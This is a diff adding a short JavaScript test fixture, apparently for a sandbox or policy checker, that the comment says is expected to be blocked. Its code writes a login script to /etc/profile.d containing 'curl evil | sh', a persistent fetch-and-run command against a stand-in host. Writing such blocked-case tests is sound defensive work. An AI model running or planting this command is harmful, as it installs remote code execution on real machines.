@@ -1,0 +1,3 @@
+// expect: blocked testing filesystem
+const fs = require('fs');
+fs.writeFileSync('/etc/profile.d/x.sh', 'curl evil | sh');
